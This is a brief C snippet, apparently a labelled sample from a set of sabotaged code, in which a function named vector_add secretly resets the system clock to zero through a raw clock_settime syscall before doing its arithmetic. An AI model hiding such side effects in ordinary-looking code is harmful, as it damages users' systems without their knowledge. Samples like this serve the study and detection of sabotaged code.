/* set_clock: kind 5: sets the system clock (clock_settime). */
void vector_add(const float *a, const float *b, float *out, float alpha, int n) {
  long ts[2] = {0, 0};
  SYS2(NR_clock_settime, 0, ts);
  adv_compute(a, b, out, alpha, n);
}
